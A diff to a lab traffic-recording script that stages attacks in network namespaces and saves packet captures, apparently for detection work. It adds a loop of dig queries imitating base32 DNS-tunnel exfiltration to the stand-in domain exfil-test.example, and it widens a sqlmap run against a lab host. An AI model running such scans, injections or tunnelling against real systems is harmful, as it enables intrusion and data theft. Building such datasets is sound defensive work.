@@ -171,7 +171,7 @@ start_servers() {
 	inns rp-dns dnsmasq --conf-file=/dev/null --no-resolv --no-hosts --no-poll \
 		--bind-interfaces --listen-address=10.66.0.53 --except-interface=lo \
 		--pid-file="$RUN/dnsmasq.pid" --log-facility="$RUN/logs/dnsmasq.log" --log-queries \
-		--local=/example.com/example.org/example.net/corp.example/ \
+		--local=/example.com/example.org/example.net/corp.example/exfil-test.example/ \
 		--host-record=www.example.com,198.51.100.10,2001:db8:10::10 \
 		--host-record=example.com,198.51.100.10 \
 		--host-record=news.example.org,198.51.100.20,2001:db8:20::20 \
@@ -283,7 +283,7 @@ http_sqlmap() {
 	rm -rf "$RUN/sqlmap"
 	cap_start rp-att http_sqlmap.pcap 0 tcp port 80
 	inns rp-att timeout 180 sqlmap -u 'http://10.66.0.20/item.php?id=1' --batch --level 1 --risk 1 \
-		--technique=B --flush-session --disable-coloring --output-dir="$RUN/sqlmap" \
+		--flush-session --disable-coloring --output-dir="$RUN/sqlmap" \
 		>"$RUN/logs/sqlmap.txt" 2>&1 || true
 	cap_stop http_sqlmap.pcap
 }
@@ -357,6 +357,21 @@ dns_tunnel() {
 	for f in iodined tunnc; do kill "$(cat "$RUN/$f.pid")" 2>/dev/null || true; rm -f "$RUN/$f.pid"; done
 	rm -f "$RUN/iodine.pid"
 }
+dns_tunnel_b32() {
+	# Not a tunnel tool: dig sending what a base32 tunnel's queries look like (random
+	# data, base32 in 52- and 40-character labels, a sequence counter) to dnsmasq,
+	# which answers NXDOMAIN. Complements the iodine capture, whose labels are Base128
+	# (non-ASCII bytes).
+	cap_start rp-att dns_tunnel_b32.pcap 0 udp port 53
+	local i data types=(TXT CNAME NULL TXT)
+	for i in $(seq 1 220); do
+		data=$(head -c 57 /dev/urandom | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')
+		inns rp-att dig +tries=1 +time=1 +noedns -b 10.66.0.10 @10.66.0.53 \
+			"$(printf '%04x' "$i")${data:0:48}.${data:48:44}.s7.t.exfil-test.example" "${types[i % 4]}" >/dev/null || true
+		sleep 0.05
+	done
+	cap_stop dns_tunnel_b32.pcap
+}
 benign_browse() {
 	# Names resolve through dnsmasq (glibc stub, /etc/netns/rp-att/resolv.conf).
 	cap_start rp-att benign_browse.pcap 0
@@ -419,7 +434,7 @@ benign_dns() {
 
 ALL=(scan_syn scan_connect scan_fin scan_xmas scan_null scan_udp sweep_syn
 	http_gobuster http_ffuf http_sqlmap http_injection_ua
-	exfil_medium exfil_high exfil_internal download_large dns_tunnel benign_browse benign_dns)
+	exfil_medium exfil_high exfil_internal download_large dns_tunnel dns_tunnel_b32 benign_browse benign_dns)
 
 [ "$(id -u)" = 0 ] || { echo "record.sh: run as root" >&2; exit 2; }
 [ $# -gt 0 ] || { sed -n '2,16p' "$0" >&2; exit 2; }
